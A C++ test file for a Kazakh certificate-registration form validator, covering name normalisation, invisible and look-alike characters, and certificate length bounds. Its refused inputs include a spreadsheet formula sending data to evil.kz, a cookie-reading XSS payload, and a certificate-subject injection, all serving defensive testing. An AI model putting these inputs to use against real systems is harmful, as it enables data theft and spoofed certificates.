// Validation of submissions against the official forms, the text of their values: Kazakh names typed with
// Latin i and I, normalisation to canonical values (GOV rows and defaults too), invisible characters and
// line breaks refused, a name word in one alphabet, NFC, and the certificate attributes' length bounds.
// (The forms' rules, errors, persons, consent and attachments: tst_validation.)

#include "common/TestMain.h"
#include "forms/FormDefinition.h"
#include "forms/Identifiers.h"
#include "forms/Validation.h"
#include "tests/forms/ValidationSamples.h"

#include <QJsonArray>
#include <QJsonObject>
#include <QObject>
#include <QTest>

using namespace tirkeu::forms;
using namespace tirkeu::forms::testing;

class TestValidationText : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void normaliseKazakhName_data();
    void normaliseKazakhName();
    void normalisedCanonicalValues();
    void normalisedGovernmentRowsAndDefaults();
    void invisibleCharactersAreRefused_data();
    void invisibleCharactersAreRefused();
    void aNameWordIsWrittenInOneAlphabet_data();
    void aNameWordIsWrittenInOneAlphabet();
    void multiLineFieldsKeepLineBreaksButNotNul();
    void governmentRowsAreCheckedToo();
    void aLettersPersonWorksForTheBody();
    void valuesAreNfcNormalised();
    void certificateAttributeBounds();
    void personNamesAreWrittenInLetters_data();
    void personNamesAreWrittenInLetters();
    void everyPersonNameFieldHasTheLetterRule();
    void namesAreCountedInCapitals();
};

void TestValidationText::normaliseKazakhName_data() {
    QTest::addColumn<QString>("typed");
    QTest::addColumn<QString>("expected");
    QTest::newRow("Latin I opens the word") << QStringLiteral("Iскаков") << QStringLiteral("Іскаков");
    QTest::newRow("Latin i inside") << QStringLiteral("Әлiбек") << QStringLiteral("Әлібек");
    QTest::newRow("several words") << QStringLiteral("Iскаков Әлiбек Серiкұлы")
                                   << QStringLiteral("Іскаков Әлібек Серікұлы");
    QTest::newRow("hyphenated") << QStringLiteral("Тiлеу-Iсабек") << QStringLiteral("Тілеу-Ісабек");
    QTest::newRow("Latin word unchanged") << QStringLiteral("Ivanov Iskakov") << QStringLiteral("Ivanov Iskakov");
    QTest::newRow("Latin word next to Cyrillic") << QStringLiteral("Iван Ivan") << QStringLiteral("Іван Ivan");
    QTest::newRow("mixed with other Latin letters") << QStringLiteral("Тimur") << QStringLiteral("Тimur");
    QTest::newRow("already Kazakh") << QStringLiteral("Ілияс") << QStringLiteral("Ілияс");
    QTest::newRow("initials") << QStringLiteral("Сәрсенбаев I.") << QStringLiteral("Сәрсенбаев I.");
    QTest::newRow("empty") << QString() << QString();
}

void TestValidationText::normaliseKazakhName() {
    QFETCH(QString, typed);
    QFETCH(QString, expected);
    QCOMPARE(tirkeu::forms::normaliseKazakhName(typed), expected);
    QCOMPARE(tirkeu::forms::normaliseKazakhName(expected), expected); // idempotent
}

void TestValidationText::normalisedCanonicalValues() {
    const FormDef& f = form(QStringLiteral("NCA-REVOKE-IND"));
    const QJsonObject typed{
        {QStringLiteral("iin"), QStringLiteral(" 900701 300108 ")},
        {QStringLiteral("surname"), QStringLiteral("  Iскаков ")},
        {QStringLiteral("name"), QStringLiteral("Әлiбек")},
        {QStringLiteral("patronymic"), QStringLiteral("Серiкұлы")},
        {QStringLiteral("email"), QStringLiteral("  alibek@example.kz ")},
        {QStringLiteral("phone"), QStringLiteral("8 (701) 123-45-67")},
        {QStringLiteral("cert_serial"), QStringLiteral("3a:5f:00 11")},
        {QStringLiteral("cert_issue_date"), QStringLiteral(" 2023-05-01 ")},
        {QStringLiteral("application_date"), QStringLiteral("2024-03-15")},
        {QStringLiteral("extra"), QStringLiteral("kept")},
    };
    const QJsonObject n = Validator::normalised(f, typed);
    QCOMPARE(n.value(QStringLiteral("iin")).toString(), kIin);
    QCOMPARE(n.value(QStringLiteral("surname")).toString(), QStringLiteral("Іскаков"));
    QCOMPARE(n.value(QStringLiteral("surname")).toString().at(0).unicode(), char16_t(0x0406));
    QCOMPARE(n.value(QStringLiteral("name")).toString(), QStringLiteral("Әлібек"));
    QCOMPARE(n.value(QStringLiteral("patronymic")).toString(), QStringLiteral("Серікұлы"));
    QCOMPARE(n.value(QStringLiteral("email")).toString(), QStringLiteral("alibek@example.kz"));
    QCOMPARE(n.value(QStringLiteral("phone")).toString(), QStringLiteral("+77011234567"));
    QCOMPARE(n.value(QStringLiteral("cert_serial")).toString(), QStringLiteral("3A5F0011"));
    QCOMPARE(n.value(QStringLiteral("cert_issue_date")).toString(), QStringLiteral("2023-05-01"));
    QCOMPARE(n.value(QStringLiteral("reason")).toString(), QStringLiteral("unspecified")); // default made explicit
    QCOMPARE(n.value(QStringLiteral("extra")).toString(), QStringLiteral("kept")); // validation still refuses it

    // Phones in the +7 form with separators, and values that cannot be canonicalised, stay as typed.
    const QJsonObject other =
        Validator::normalised(f, QJsonObject{{QStringLiteral("phone"), QStringLiteral("+7 (727) 123 45 67")}});
    QCOMPARE(other.value(QStringLiteral("phone")).toString(), QStringLiteral("+77271234567"));
    const QJsonObject bad = Validator::normalised(f, QJsonObject{{QStringLiteral("phone"), QStringLiteral(" 12-34 ")}});
    QCOMPARE(bad.value(QStringLiteral("phone")).toString(), QStringLiteral("12-34"));

    const FormDef& root = form(QStringLiteral("ROOT-REVOKE"));
    const QJsonObject r = Validator::normalised(
        root, QJsonObject{{QStringLiteral("full_name"), QStringLiteral("Бекмұханов  Қайрат  Ерланұлы")},
                          {QStringLiteral("head_full_name"), QStringLiteral("Iбраев Б.")}});
    QCOMPARE(r.value(QStringLiteral("full_name")).toString(), QStringLiteral("Бекмұханов Қайрат Ерланұлы"));
    QCOMPARE(r.value(QStringLiteral("head_full_name")).toString(), QStringLiteral("Ібраев Б."));
}

void TestValidationText::normalisedGovernmentRowsAndDefaults() {
    const FormDef& f = form(QStringLiteral("GOV-ISSUE"));
    QJsonObject data = letter();
    QJsonObject person = govIssuePerson(QStringLiteral("9007 0130 0108"), QStringLiteral("Iсмаилова"));
    person.insert(QStringLiteral("usage"), QJsonArray{QStringLiteral(" edms ")});
    data.insert(QStringLiteral("persons"), QJsonArray{person});
    const QJsonObject n = Validator::normalised(f, data);
    const QJsonObject row = n.value(QStringLiteral("persons")).toArray().at(0).toObject();
    QCOMPARE(row.value(QStringLiteral("surname")).toString(), QStringLiteral("Ісмаилова"));
    QCOMPARE(row.value(QStringLiteral("iin")).toString(), kIin);
    QCOMPARE(row.value(QStringLiteral("usage")).toArray(), QJsonArray{QStringLiteral("edms")});
    QCOMPARE(row.value(QStringLiteral("validity")).toString(), QStringLiteral("1y"));
    QCOMPARE(row.value(QStringLiteral("key_media")).toString(), QStringLiteral("token"));
    QVERIFY(!row.contains(QStringLiteral("patronymic"))); // absent optional fields stay absent

    Submission s;
    s.data = n;
    s.attachments = {QStringLiteral("identity_document_copy")};
    s.consent = true;
    const ValidationResult r = Validator::validate(f, s);
    QVERIFY2(r.ok(), qPrintable(r.summary()));
}

void TestValidationText::invisibleCharactersAreRefused_data() {
    QTest::addColumn<QString>("inserted");
    QTest::addColumn<QString>("codePoint");
    QTest::addColumn<QString>("kind");
    const auto row = [](const char* name, const QString& c, const char* cp, const char* kind) {
        QTest::newRow(name) << c << QString::fromLatin1(cp) << QString::fromLatin1(kind);
    };
    row("NUL", QString(QChar(0)), "U+0000", "control");
    row("BEL", QStringLiteral("\u0007"), "U+0007", "control");
    row("DEL", QStringLiteral("\u007F"), "U+007F", "control");
    row("C1 NEL", QStringLiteral("\u0085"), "U+0085", "control");
    row("C1 CSI", QStringLiteral("\u009B"), "U+009B", "control");
    row("TAB in a single line", QStringLiteral("\t"), "U+0009", "control");
    row("LRE", QStringLiteral("\u202A"), "U+202A", "bidirectional");
    row("RLO", QStringLiteral("\u202E"), "U+202E", "bidirectional");
    row("LRI", QStringLiteral("\u2066"), "U+2066", "bidirectional");
    row("PDI", QStringLiteral("\u2069"), "U+2069", "bidirectional");
    row("LRM", QStringLiteral("\u200E"), "U+200E", "bidirectional");
    row("RLM", QStringLiteral("\u200F"), "U+200F", "bidirectional");
    row("ALM", QStringLiteral("\u061C"), "U+061C", "bidirectional");
    row("ZWSP", QStringLiteral("\u200B"), "U+200B", "zero-width");
    row("ZWNJ", QStringLiteral("\u200C"), "U+200C", "zero-width");
    row("ZWJ", QStringLiteral("\u200D"), "U+200D", "zero-width");
    row("WJ", QStringLiteral("\u2060"), "U+2060", "zero-width");
    row("BOM", QStringLiteral("\uFEFF"), "U+FEFF", "zero-width");
    row("private use BMP", QStringLiteral("\uE000"), "U+E000", "private-use");
    row("private use plane 15", QString::fromUcs4(U"\U000F0001"), "U+F0001", "private-use");
    row("unpaired surrogate", QString(QChar(0xD800)), "U+D800", "surrogate");
    row("non-character", QStringLiteral("\uFFFF"), "U+FFFF", "non-character");
    row("soft hyphen", QStringLiteral("\u00AD"), "U+00AD", "invisible");
    // Shown as nothing though Unicode calls them letters, symbols or marks (attack of session 29, F1).
    row("Hangul filler", QStringLiteral("\u3164"), "U+3164", "invisible");
    row("halfwidth Hangul filler", QStringLiteral("\uFFA0"), "U+FFA0", "invisible");
    row("Braille blank", QStringLiteral("\u2800"), "U+2800", "invisible");
    row("combining grapheme joiner", QStringLiteral("\u034F"), "U+034F", "invisible");
    row("variation selector 16", QStringLiteral("\uFE0F"), "U+FE0F", "invisible");
    row("Mongolian FVS1", QStringLiteral("\u180B"), "U+180B", "invisible");
    // What a wrong encoding leaves (attack of session 33, C6).
    row("replacement character", QStringLiteral("\uFFFD"), "U+FFFD", "replacement");
    row("object replacement", QStringLiteral("\uFFFC"), "U+FFFC", "replacement");
}

void TestValidationText::invisibleCharactersAreRefused() {
    QFETCH(QString, inserted);
    QFETCH(QString, codePoint);
    QFETCH(QString, kind);
    const FormDef& f = form(QStringLiteral("NCA-ISSUE-IND"));
    Submission s = valid(f.code);
    QVERIFY(Validator::validate(f, s).ok());
    s.data.insert(QStringLiteral("surname"), QString(QStringLiteral("Қасы") + inserted + QStringLiteral("мова")));
    const ValidationResult r = Validator::validate(f, s, QStringLiteral("en"));
    const FieldError* e = errorFor(r, QStringLiteral("surname"));
    QVERIFY2(e, qPrintable(r.summary()));
    QVERIFY2(e->message.contains(u"\"Surname\""), qPrintable(e->message));
    QVERIFY2(e->message.contains(codePoint), qPrintable(e->message));
    QVERIFY2(e->message.contains(kind), qPrintable(e->message));
    // The same for the live check of one field, in Kazakh.
    const QString live =
        Validator::validateField(*f.field(QStringLiteral("surname")), s.data.value("surname"), QStringLiteral("kk"));
    QVERIFY2(live.contains(u"\"Тегі\"") && live.contains(codePoint), qPrintable(live));
    // Also at the edge of the value, where trimming must not hide it (NUL, BOM).
    s.data.insert(QStringLiteral("name"), QString(inserted + QStringLiteral("Әлия")));
    QVERIFY(errorFor(Validator::validate(f, s), QStringLiteral("name")));
    // And in any text field, not only names.
    s.data.insert(QStringLiteral("city"), QString(QStringLiteral("Қона") + inserted + QStringLiteral("ев")));
    const FieldError* city = errorFor(Validator::validate(f, s, QStringLiteral("en")), QStringLiteral("city"));
    QVERIFY2(city && city->message.contains(kind), city ? qPrintable(city->message) : "accepted");
}

// Look-alike letters of another alphabet inside one word of a name (attack of session 29, F1: "ҚАCЫМOВA" with
// Latin C, O and A was printed exactly as the holder "ҚАСЫМОВА"). Words of different alphabets stay allowed.
void TestValidationText::aNameWordIsWrittenInOneAlphabet_data() {
    QTest::addColumn<QString>("surname");
    QTest::addColumn<QString>("offending"); // empty: accepted
    QTest::newRow("Latin C, O, A in a Cyrillic word") << QStringLiteral("ҚАCЫМOВA") << QStringLiteral("alphabets (C");
    QTest::newRow("Cyrillic о in a Latin word") << QStringLiteral("Ivanоv") << QStringLiteral("alphabets (о");
    QTest::newRow("Greek letters before Cyrillic") << QStringLiteral("Κασымова") << QStringLiteral("alphabets (ы");
    QTest::newRow("second word mixed") << QStringLiteral("Қасымова Cерікқызы") << QStringLiteral("alphabets (е");
    QTest::newRow("hyphenated part mixed") << QStringLiteral("Тілеу-Иcабек") << QStringLiteral("alphabets (c");
    QTest::newRow("Cyrillic word") << QStringLiteral("Қасымова") << QString();
    QTest::newRow("Latin word") << QStringLiteral("O'Brien") << QString();
    QTest::newRow("words of two alphabets") << QStringLiteral("Мак-Кей Smith") << QString();
    QTest::newRow("Latin I typed for the Kazakh І") << QStringLiteral("Iскаков") << QString();
    QTest::newRow("Latin i inside a Kazakh word") << QStringLiteral("Әлiбек") << QString();
    QTest::newRow("combining accent") << QStringLiteral("Ива\u0301нов") << QString();
    // Nor a name without a letter, with a digit, or with a stack of accents (attack of session 30, A12).
    QTest::newRow("a full stop") << QStringLiteral(".") << QStringLiteral("no letter");
    QTest::newRow("an IIN in the surname") << QStringLiteral("Қасымова ЖСН 900701300108") << QStringLiteral("digit 9");
    QTest::newRow("three accents on a letter")
        << QStringLiteral("Қа\u0301\u0301\u0301сымова") << QStringLiteral("accents");
    QTest::newRow("strike-through letters")
        << QStringLiteral("Қасымова\u0336\u0336\u0336") << QStringLiteral("accents");
}

void TestValidationText::aNameWordIsWrittenInOneAlphabet() {
    QFETCH(QString, surname);
    QFETCH(QString, offending);
    const FormDef& f = form(QStringLiteral("NCA-ISSUE-IND"));
    Submission s = valid(f.code);
    s.data.insert(QStringLiteral("surname"), surname);
    const ValidationResult r = Validator::validate(f, s, QStringLiteral("en"));
    const FieldError* e = errorFor(r, QStringLiteral("surname"));
    if (offending.isEmpty()) {
        QVERIFY2(!e, qPrintable(r.summary()));
        return;
    }
    QVERIFY2(e, qPrintable(r.summary()));
    QVERIFY2(e->message.contains(u"\"Surname\"") && e->message.contains(offending), qPrintable(e->message));
    // In a GOV letter's person rows as well, and in Kazakh.
    const FormDef& gov = form(QStringLiteral("GOV-ISSUE"));
    const FieldDef* govSurname = nullptr;
    for (const FieldDef& field : gov.personFields)
        if (field.id == u"surname")
            govSurname = &field;
    QVERIFY(govSurname);
    const QString kk = Validator::validateField(*govSurname, QJsonValue(surname), QStringLiteral("kk"));
    QVERIFY2(!kk.isEmpty() && kk.contains(u"\"Тегі\""), qPrintable(kk));
}

void TestValidationText::multiLineFieldsKeepLineBreaksButNotNul() {
    const FormDef& f = form(QStringLiteral("NCA-ISSUE-IND"));
    const FieldDef* tool = f.field(QStringLiteral("crypto_tool"));
    QVERIFY(tool && tool->type == FieldType::LongText);
    QVERIFY(Validator::validateField(*tool, QStringLiteral("NCALayer\r\n\tv1.4")).isEmpty());
    QVERIFY(Validator::validateField(*tool, QString(QStringLiteral("NCALayer") + QChar(0))).contains(u"U+0000"));
    QVERIFY(Validator::validateField(*tool, QStringLiteral("NCA\u202ELayer")).contains(u"U+202E"));
    // A single-line field still says so for a line break.
    QVERIFY(
        Validator::validateField(*f.field(QStringLiteral("surname")), QStringLiteral("А\nБ")).contains(u"single line"));
}

void TestValidationText::governmentRowsAreCheckedToo() {
    const FormDef& f = form(QStringLiteral("GOV-ISSUE"));
    Submission s = valid(f.code);
    QVERIFY2(Validator::validate(f, s).ok(), qPrintable(Validator::validate(f, s).summary()));
    QJsonArray rows = s.data.value(QStringLiteral("persons")).toArray();
    QJsonObject p = rows.at(0).toObject();
    p.insert(QStringLiteral("name"), QStringLiteral("Ай\u200Dгүл"));
    rows[0] = p;
    s.data.insert(QStringLiteral("persons"), rows);
    const ValidationResult r = Validator::validate(f, s, QStringLiteral("en"));
    const FieldError* e = errorFor(r, QStringLiteral("name"), 0);
    QVERIFY2(e, qPrintable(r.summary()));
    QVERIFY2(e->message.startsWith(u"Person 1") && e->message.contains(u"U+200D"), qPrintable(e->message));
}

// Attack of session 32, B18: a GOV-ISSUE row's organisation is the letter's body, or a unit of it named after the
// body (compared case-folded, spaces collapsed); another body, the body's name run on into a word, or a unit alone
// are refused on that row's field, naming both. The revocation letter's rows are not held to it (not certified).
void TestValidationText::aLettersPersonWorksForTheBody() {
    const FormDef& f = form(QStringLiteral("GOV-ISSUE"));
    const QString body = letter().value(QStringLiteral("org_name")).toString();
    const auto withOrganisation = [](Submission s, const QString& organisation) {
        QJsonArray rows = s.data.value(QStringLiteral("persons")).toArray();
        QJsonObject p = rows.at(1).toObject();
        p.insert(QStringLiteral("organisation"), organisation);
        rows[1] = p;
        s.data.insert(QStringLiteral("persons"), rows);
        return s;
    };
    for (const QString& ok : {body, QString(body.toUpper()), QString(u' ' + body + QStringLiteral("  — бөлім")),
                              QString(body + QStringLiteral(", Ақпараттық қауіпсіздік комитеті"))}) {
        const Submission s = withOrganisation(valid(f.code), ok);
        QVERIFY2(Validator::validate(f, s).ok(), qPrintable(ok + u": " + Validator::validate(f, s).summary()));
    }
    for (const QString& bad :
         {QStringLiteral("Қазақстан Республикасы Қаржы министрлігі"), QStringLiteral("Цифрлық даму министрлігі"),
          QStringLiteral("Ақпараттық қауіпсіздік комитеті"), QString(body + QStringLiteral("нің бөлімі"))}) {
        const ValidationResult r = Validator::validate(f, withOrganisation(valid(f.code), bad), QStringLiteral("en"));
        const FieldError* e = errorFor(r, QStringLiteral("organisation"), 1);
        QVERIFY2(e && e->message.startsWith(u"Person 2") && e->message.contains(bad) && e->message.contains(body),
                 qPrintable(bad + u": " + r.summary()));
        QCOMPARE(r.errors.size(), 1);
    }
    const FormDef& revoke = form(QStringLiteral("GOV-REVOKE"));
    Submission rs = valid(revoke.code);
    QJsonArray rows = rs.data.value(QStringLiteral("persons")).toArray();
    QJsonObject p = rows.at(0).toObject();
    p.insert(QStringLiteral("organisation"), QStringLiteral("Қаржы министрлігі"));
    rows[0] = p;
    rs.data.insert(QStringLiteral("persons"), rows);
    QVERIFY2(Validator::validate(revoke, rs).ok(), qPrintable(Validator::validate(revoke, rs).summary()));
}

void TestValidationText::valuesAreNfcNormalised() {
    const FormDef& f = form(QStringLiteral("NCA-ISSUE-LEGAL"));
    // "Й" typed as И + combining breve, "Ё" as Е + combining diaeresis: stored precomposed.
    const QString decomposed = QStringLiteral("И\u0306ЕЛЕ\u0308");
    const QJsonObject out =
        Validator::normalised(f, {{QStringLiteral("surname"), decomposed}, {QStringLiteral("short_name"), decomposed}});
    QCOMPARE(out.value(QStringLiteral("surname")).toString(), QStringLiteral("\u0419ЕЛ\u0401"));
    QCOMPARE(out.value(QStringLiteral("short_name")).toString(), QStringLiteral("\u0419ЕЛ\u0401"));
    // Counted after NFC: 64 decomposed "Й" are 128 code points but 64 characters.
    QString many;
    for (int i = 0; i < 64; ++i)
        many += QStringLiteral("И\u0306");
    QVERIFY(Validator::validateField(*f.field(QStringLiteral("short_name")), many).isEmpty());
    QVERIFY(!Validator::validateField(*f.field(QStringLiteral("short_name")), QString(many + u'А')).isEmpty());
}

void TestValidationText::certificateAttributeBounds() {
    { // CN = "SURNAME NAME": at most 64 characters together.
        const FormDef& f = form(QStringLiteral("NCA-ISSUE-IND"));
        Submission s = valid(f.code);
        s.data.insert(QStringLiteral("surname"), QString(40, u'Қ'));
        s.data.insert(QStringLiteral("name"), QString(23, u'Ә')); // 40 + 1 + 23 = 64
        QVERIFY2(Validator::validate(f, s).ok(), qPrintable(Validator::validate(f, s).summary()));
        s.data.insert(QStringLiteral("name"), QString(24, u'Ә'));
        const ValidationResult r = Validator::validate(f, s, QStringLiteral("en"));
        const FieldError* e = errorFor(r, QStringLiteral("surname"));
        QVERIFY2(e, qPrintable(r.summary()));
        QVERIFY2(e->message.contains(u"(CN)") && e->message.contains(u"65") && e->message.contains(u"\"Given name\""),
                 qPrintable(e->message));
    }
    { // L 128, ST 128.
        const FormDef& f = form(QStringLiteral("NCA-ISSUE-IND"));
        Submission s = valid(f.code);
        s.data.insert(QStringLiteral("city"), QString(128, u'А'));
        QVERIFY(Validator::validate(f, s).ok());
        s.data.insert(QStringLiteral("city"), QString(129, u'А'));
        const FieldError* e = errorFor(Validator::validate(f, s), QStringLiteral("city"));
        QVERIFY(e);
        QVERIFY2(e->message.contains(u" L ") && e->message.contains(u"128"), qPrintable(e->message));
        s.data.insert(QStringLiteral("city"), QStringLiteral("Қонаев"));
        s.data.insert(QStringLiteral("region"), QString(129, u'А'));
        QVERIFY(errorFor(Validator::validate(f, s), QStringLiteral("region"))->message.contains(u" ST "));
    }
    { // O: the full name of the organisation when there is no short name.
        const FormDef& f = form(QStringLiteral("NCA-ISSUE-LEGAL"));
        Submission s = valid(f.code);
        s.data.insert(QStringLiteral("org_name"), QString(90, u'Ө'));
        QVERIFY(Validator::validate(f, s).ok()); // the short name is O=
        s.data.remove(QStringLiteral("short_name"));
        const ValidationResult r = Validator::validate(f, s, QStringLiteral("en"));
        const FieldError* e = errorFor(r, QStringLiteral("org_name"));
        QVERIFY2(e, qPrintable(r.summary()));
        QVERIFY2(e->message.contains(u"(O)") && e->message.contains(u"90"), qPrintable(e->message));
    }
    { // GOV letter: the body's name becomes O (B18), whatever its rows' organisations; checked once, on the letter.
        const FormDef& f = form(QStringLiteral("GOV-ISSUE"));
        Submission s = valid(f.code);
        const QString body = QString(64, u'Ү');
        s.data.insert(QStringLiteral("org_name"), body);
        QJsonArray rows = s.data.value(QStringLiteral("persons")).toArray();
        for (int i = 0; i < rows.size(); ++i) {
            QJsonObject p = rows.at(i).toObject();
            p.insert(QStringLiteral("organisation"), QString(body + QStringLiteral(", бөлім")));
            rows[i] = p;
        }
        s.data.insert(QStringLiteral("persons"), rows);
        QVERIFY2(Validator::validate(f, s).ok(), qPrintable(Validator::validate(f, s).summary()));
        s.data.insert(QStringLiteral("org_name"), QString(70, u'Ү')); // too long for O
        const ValidationResult r = Validator::validate(f, s, QStringLiteral("en"));
        const FieldError* e = errorFor(r, QStringLiteral("org_name"));
        QVERIFY2(e && e->message.contains(u"(O)") && e->message.contains(u"70"), qPrintable(r.summary()));
        // The revocation letter is not certified: its names are not bounded by RFC 5280.
        const FormDef& revoke = form(QStringLiteral("GOV-REVOKE"));
        Submission rs = valid(revoke.code);
        rs.data.insert(QStringLiteral("org_name"), QString(70, u'Ү'));
        QVERIFY2(Validator::validate(revoke, rs).ok(), qPrintable(Validator::validate(revoke, rs).summary()));
    }
    { // A sub-CA's name is its CN.
        const FormDef& f = form(QStringLiteral("ROOT-ISSUE"));
        Submission s = valid(f.code);
        s.data.insert(QStringLiteral("ca_name"), QString(65, u'Ұ'));
        const FieldError* e = errorFor(Validator::validate(f, s), QStringLiteral("ca_name"));
        QVERIFY(e);
        QVERIFY2(e->message.contains(u" CN ") && e->message.contains(u"64"), qPrintable(e->message));
    }
}

// Attack of session 33, C6: a formula, markup, RFC 4514 syntax and U+FFFD were registered, approved and certified as
// surnames. A name holds letters of any script, combining marks, spaces, hyphens, apostrophes and dots only; the
// refusal names the character, its code point and position.
void TestValidationText::personNamesAreWrittenInLetters_data() {
    QTest::addColumn<QString>("surname");
    QTest::addColumn<QString>("offending"); // empty: accepted
    QTest::newRow("formula") << QStringLiteral("=HYPERLINK(\"http://evil.kz/?x\"&A1;\"click\")")
                             << QStringLiteral("\"=\" (U+003D) at position 1");
    QTest::newRow("markup") << QStringLiteral("<img src=x onerror=alert(document.cookie)>")
                            << QStringLiteral("\"<\" (U+003C) at position 1");
    QTest::newRow("RFC 4514 syntax") << QStringLiteral("Kasymova,O=Evil Corp")
                                     << QStringLiteral("\",\" (U+002C) at position 9");
    QTest::newRow("replacement character")
        << QStringLiteral("Kasymova\uFFFD") << QStringLiteral("(U+FFFD) at position 9");
    QTest::newRow("object replacement") << QStringLiteral("Kasymova\uFFFC") << QStringLiteral("(U+FFFC)");
    QTest::newRow("plus") << QStringLiteral("Kasymova+SN=X") << QStringLiteral("(U+002B)");
    QTest::newRow("underscore") << QStringLiteral("Қасымова_") << QStringLiteral("(U+005F)");
    QTest::newRow("parenthesis") << QStringLiteral("Қасымова (Сәрсенова)") << QStringLiteral("(U+0028) at position 10");
    QTest::newRow("at sign") << QStringLiteral("@Kasymova") << QStringLiteral("(U+0040)");
    QTest::newRow("emoji") << QStringLiteral("Kasymova\U0001F600") << QStringLiteral("(U+1F600) at position 9");
    QTest::newRow("a digit still by its own message") << QStringLiteral("Kasymova2") << QStringLiteral("digit 2");
    QTest::newRow("Kazakh letters") << QStringLiteral("ӘҒҚҢӨҰҮҺІ әғқңөұүһі") << QString();
    QTest::newRow("hyphen") << QStringLiteral("Сәрсенбаева-Қасымова") << QString();
    QTest::newRow("apostrophe") << QStringLiteral("O'Brien") << QString();
    QTest::newRow("typographic apostrophe") << QStringLiteral("D’Artagnan") << QString();
    QTest::newRow("modifier apostrophe (a letter)") << QStringLiteral("Oʻrinboyev") << QString();
    QTest::newRow("initials") << QStringLiteral("Жұмабеков Н. Қ.") << QString();
    QTest::newRow("no-break space") << QStringLiteral("Ван\u00A0Дейк") << QString();
    QTest::newRow("combining accent") << QStringLiteral("Ива\u0301нов") << QString();
    QTest::newRow("Arabic") << QStringLiteral("محمد") << QString();
    QTest::newRow("Hangul") << QStringLiteral("김민준") << QString();
    QTest::newRow("letters outside the BMP") << QStringLiteral("\U00010428\U00010429") << QString();
    QTest::newRow("sharp s") << QStringLiteral("Straße") << QString();
}

void TestValidationText::personNamesAreWrittenInLetters() {
    QFETCH(QString, surname);
    QFETCH(QString, offending);
    const FormDef& f = form(QStringLiteral("NCA-ISSUE-IND"));
    Submission s = valid(f.code);
    s.data.insert(QStringLiteral("surname"), surname);
    const ValidationResult r = Validator::validate(f, s, QStringLiteral("en"));
    const FieldError* e = errorFor(r, QStringLiteral("surname"));
    // What the GUI checks while the operator types (FieldEditor): the same rule.
    const QString live = Validator::validateField(*f.field(QStringLiteral("surname")), surname, QStringLiteral("en"));
    if (offending.isEmpty()) {
        QVERIFY2(!e, qPrintable(r.summary()));
        QVERIFY2(live.isEmpty(), qPrintable(live));
        return;
    }
    QVERIFY2(e, qPrintable(r.summary()));
    QVERIFY2(e->message.contains(u"\"Surname\"") && e->message.contains(offending), qPrintable(e->message));
    QCOMPARE(live, e->message);
}

// The rule holds in every form's every person-name field (surname, name, patronymic, full names; GOV rows too).
void TestValidationText::everyPersonNameFieldHasTheLetterRule() {
    int checked = 0;
    for (const FormDef& f : FormCatalog::all()) {
        for (const QList<FieldDef>* fields : {&f.fields, &f.personFields}) {
            for (const FieldDef& field : *fields) {
                if (field.id != u"surname" && field.id != u"name" && field.id != u"patronymic" &&
                    field.id != u"full_name" && field.id != u"head_full_name")
                    continue;
                ++checked;
                const QString bad =
                    Validator::validateField(field, QStringLiteral("Kasymova,O=Evil Corp"), QStringLiteral("en"));
                QVERIFY2(bad.contains(u"(U+002C)"), qPrintable(f.code + u' ' + field.id + u": " + bad));
                const QString good =
                    Validator::validateField(field, QStringLiteral("Қасымова-O’Brien Ә."), QStringLiteral("en"));
                QVERIFY2(good.isEmpty(), qPrintable(f.code + u' ' + field.id + u": " + good));
            }
        }
    }
    qInfo("%d person-name fields", checked);
    QVERIFY2(checked >= 10, qPrintable(QString::number(checked)));
}

// Attack of session 33, C8: "Kasymova" + 20 x "ﬃ" (28 characters) passed and was approved, and every issuance
// failed: in capitals the CN "KASYMOVAFFIFFI… ALIYA" is 75 characters. The bounds count the capitals the certificate
// carries (pki::SubjectName upper-cases by QString::toUpper): "ß" becomes "SS", "ﬃ" "FFI".
void TestValidationText::namesAreCountedInCapitals() {
    const QString ffi = QString(20, QChar(0xFB03));
    QCOMPARE(ffi.toUpper().size(), 60);
    for (const QString& code : {QStringLiteral("NCA-ISSUE-IND"), QStringLiteral("NCA-ISSUE-LEGAL")}) {
        const FormDef& f = form(code);
        Submission s = valid(f.code);
        s.data.insert(QStringLiteral("surname"), QString(QStringLiteral("Kasymova") + ffi));
        s.data.insert(QStringLiteral("name"), QStringLiteral("Aliya"));
        ValidationResult r = Validator::validate(f, s, QStringLiteral("en"));
        const FieldError* e = errorFor(r, QStringLiteral("surname"));
        QVERIFY2(e, qPrintable(code + u": " + r.summary()));
        QVERIFY2(e->message.contains(u"(CN)") && e->message.contains(u"capitals") && e->message.contains(u"74"),
                 qPrintable(e->message));
        // 29 x "ß" + " " + "Әлия": 63 characters in capitals; 30 make 65.
        s.data.insert(QStringLiteral("name"), QStringLiteral("Әлия"));
        s.data.insert(QStringLiteral("surname"), QString(29, u'ß'));
        r = Validator::validate(f, s, QStringLiteral("en"));
        QVERIFY2(r.ok(), qPrintable(r.summary()));
        s.data.insert(QStringLiteral("surname"), QString(30, u'ß'));
        r = Validator::validate(f, s, QStringLiteral("en"));
        e = errorFor(r, QStringLiteral("surname"));
        QVERIFY2(e && e->message.contains(u"65") && e->message.contains(u"capitals"), qPrintable(r.summary()));
        // A name without such letters keeps the message it had.
        s.data.insert(QStringLiteral("surname"), QString(60, u'Қ'));
        e = errorFor(Validator::validate(f, s, QStringLiteral("en")), QStringLiteral("surname"));
        QVERIFY(e && e->message.contains(u"65") && !e->message.contains(u"capitals"));
    }
    { // The patronymic on its own (givenName, at most 128): 64 x "ß" is 128 in capitals, 65 are 130.
        const FormDef& f = form(QStringLiteral("NCA-ISSUE-IND"));
        const FieldDef* patronymic = f.field(QStringLiteral("patronymic"));
        QVERIFY(patronymic);
        QVERIFY(Validator::validateField(*patronymic, QString(64, u'ß')).isEmpty());
        const QString message = Validator::validateField(*patronymic, QString(65, u'ß'), QStringLiteral("en"));
        QVERIFY2(message.contains(u"130") && message.contains(u"128") && message.contains(u"capitals"),
                 qPrintable(message));
    }
    { // A GOV letter's rows as well.
        const FormDef& f = form(QStringLiteral("GOV-ISSUE"));
        Submission s = valid(f.code);
        QJsonArray rows = s.data.value(QStringLiteral("persons")).toArray();
        QJsonObject row = rows.at(0).toObject();
        row.insert(QStringLiteral("surname"), QString(QStringLiteral("Kasymova") + ffi));
        rows[0] = row;
        s.data.insert(QStringLiteral("persons"), rows);
        const ValidationResult r = Validator::validate(f, s, QStringLiteral("en"));
        const FieldError* e = errorFor(r, QStringLiteral("surname"), 0);
        QVERIFY2(e && e->message.contains(u"(CN)") && e->message.contains(u"capitals"), qPrintable(r.summary()));
    }
}

TIRKEU_TEST_GUILESS_MAIN(TestValidationText)
